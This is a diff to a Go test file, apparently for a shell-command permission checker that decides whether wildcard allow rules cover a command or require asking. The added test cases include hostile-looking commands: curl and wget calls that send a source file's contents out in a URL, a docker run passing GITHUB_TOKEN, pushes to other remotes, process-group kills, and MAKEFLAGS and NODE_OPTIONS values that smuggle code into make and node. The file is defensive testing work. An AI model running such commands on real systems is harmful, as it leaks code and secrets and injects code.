@@ -87,6 +87,8 @@ func TestWildcardsMeanTheirProgram(t *testing.T) {
 		"curl -o src/data.json " + code,
 		"curl -u me:password http://localhost:8080/",
 		"curl -H 'Authorization: Bearer abc' http://127.0.0.1:8080/",
+		`curl "http://127.0.0.1:8080/?q=$(cat src/main.js)"`,
+		"MAKEFLAGS=-j8 make",
 		"wget " + code + "/data.json",
 		"http " + code + " Accept:text/plain",
 
@@ -141,6 +143,25 @@ func TestWildcardsMeanTheirProgram(t *testing.T) {
 		"http " + code + " 'Authorization: Bearer abc'",
 		"python -m keyring get service me",
 
+		"docker --context other ps",
+		"docker -c other rm -f web",
+		"docker context use other",
+		"DOCKER_HOST=ssh://other docker restart web",
+		"DOCKER_CONTEXT=other docker restart web",
+
+		`curl "` + code + `/?q=$(cat src/main.js)"`,
+		`wget "` + code + `/$(base64 src/main.js)"`,
+
+		"docker run -e GITHUB_TOKEN alpine ls",
+		"git http-push " + others + "/x main",
+
+		"kill 0",
+		"kill -9 -- -0",
+
+		"MAKEFLAGS=--eval=x make",
+		"GNUMAKEFLAGS=--eval=x make",
+		"NODE_OPTIONS=--import=./src/hooks.js node src/main.js",
+
 		"git push " + others + "/x main",
 		"git remote set-url origin " + others + "/x",
 		"git remote add copy " + others + "/x",
@@ -174,7 +195,12 @@ func TestWildcardsMeanTheirProgram(t *testing.T) {
 	}
 	for want, calls := range map[Decision][]string{Allow: covered, Ask: elsewhere} {
 		for _, call := range calls {
-			program, _, _ := strings.Cut(call, " ")
+			program := ""
+			for word := range strings.FieldsSeq(call) {
+				if program = word; !strings.Contains(word, "=") && word[0] != '-' {
+					break
+				}
+			}
 			if got := underAllow(t, "Bash:"+program+" *", call); got != want {
 				t.Errorf("Bash:%s * on %s: %s, want %s", program, call, got, want)
 			}
